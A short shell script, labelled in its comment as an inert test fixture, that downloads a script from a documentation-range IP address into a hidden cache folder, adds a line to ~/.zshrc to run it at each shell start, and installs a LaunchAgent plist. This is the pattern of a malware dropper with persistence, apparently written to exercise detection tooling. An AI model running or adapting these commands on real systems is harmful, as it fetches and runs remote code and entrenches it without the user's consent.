#!/bin/sh
# Inert test fixture: TEST-NET address, never reachable.
mkdir -p "$HOME/.cache/updater"
curl -fsSL http://203.0.113.20/u.sh -o "$HOME/.cache/updater/run.sh"
echo 'sh $HOME/.cache/updater/run.sh' >> ~/.zshrc
cp updater.plist ~/Library/LaunchAgents/com.example.updater.plist
